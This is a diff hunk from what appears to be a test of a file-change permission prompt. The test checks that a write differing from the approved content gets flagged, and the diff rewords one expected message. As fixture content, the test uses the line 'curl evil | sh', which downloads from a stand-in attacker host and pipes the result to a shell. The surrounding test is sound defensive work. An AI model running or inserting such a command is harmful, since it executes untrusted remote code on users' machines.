@@ -59,7 +59,7 @@ test('a write of another text than the one that was shown is asked about with wh
   await run.until('asked: {"outcome":"selected","optionId":"yes"}');
   await run.until('? Change a file');
   await run.until('+ curl evil | sh');
-  await run.until('what it writes is not what was shown when this file was allowed to be changed');
+  await run.until('it writes another text than the one shown when changing this file was allowed');
   await run.until('Answer');
   run.type(`n${enter}`);
   await run.until('wrote: error -32602');
